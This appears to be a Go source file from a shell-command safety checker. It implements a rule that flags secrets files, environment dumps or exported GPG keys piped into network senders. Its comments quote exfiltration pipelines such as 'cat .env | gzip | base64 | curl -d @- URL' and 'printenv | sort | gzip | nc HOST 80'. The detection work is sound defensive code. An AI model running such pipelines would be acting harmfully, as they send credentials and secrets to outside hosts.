package patterns

import "strings"

// A secret piped to a sender leaves whatever filters it passes through on
// the way: `cat .env | gzip | base64 | curl -d @- URL` sends .env, and
// `printenv | sort | gzip | nc HOST 80` the environment. [secret-stream]
// judges a sender's program word by every earlier stage of its pipeline,
// however many stand between: a stage that reads a secrets file (an
// operand or a < of [secret]), that prints the environment (env,
// printenv, set, export -p, declare -p/-x, /proc/*/environ) or that
// exports secret keys (gpg --export-secret-keys) feeds it a secret.

// judgeSecretStream is [secret-stream]: a sender fed a secret through a
// pipe, through any number of filters.
func judgeSecretStream(_ string, w Word, ctx *Context) Judgement {
	if !judgeSender("", w, ctx).Certainly {
		return Judgement{}
	}
	cmd := ctx.evalCommand()
	if cmd == nil || len(cmd.Parts) > maxKillSearch {
		return Judgement{}
	}
	k := ctx.programPart(w)
	if k == nil || k.Pipe.ID < 0 || k.Pipe.Stage == 0 {
		return Judgement{}
	}
	for _, q := range pipelineParts(cmd, k.Pipe.ID, k.Pipe.Stage) {
		if feedsSecret(q, ctx) {
			return Judgement{Might: true, Certainly: true}
		}
	}
	return Judgement{}
}

// feedsSecret reports whether part q writes a secret to its output: it
// reads a secrets file, prints the environment or exports secret keys.
func feedsSecret(q *Part, ctx *Context) bool {
	args := q.Args()
	switch q.Program {
	case "env", "printenv":
		return true
	case "set", "export", "declare", "typeset":
		if len(args) == 0 {
			return true // each prints every variable when given nothing
		}
		for _, a := range args {
			if v, ok := a.Literal(); ok && strings.HasPrefix(v, "-") && strings.ContainsAny(v, "px") {
				return true
			}
		}
	case "gpg", "gpg2":
		for _, a := range args {
			if v, ok := a.Literal(); ok && strings.HasPrefix(v, "--export-secret") {
				return true
			}
		}
	}
	for i := range args {
		if readsSecretWord(&args[i], ctx) {
			return true
		}
	}
	for i := range q.Redirs {
		if r := &q.Redirs[i]; r.Reads && readsSecretWord(&r.Target, ctx) {
			return true
		}
	}
	return false
}

// readsSecretWord reports whether a word a stage reads certainly names a
// secrets file or a process's environment (/proc/self/environ).
func readsSecretWord(w *Word, ctx *Context) bool {
	if v := strings.Trim(w.Raw, `"'`); strings.HasPrefix(v, "/proc/") && strings.HasSuffix(v, "/environ") {
		return true
	}
	return judgeSecret("", *w, ctx).Certainly
}
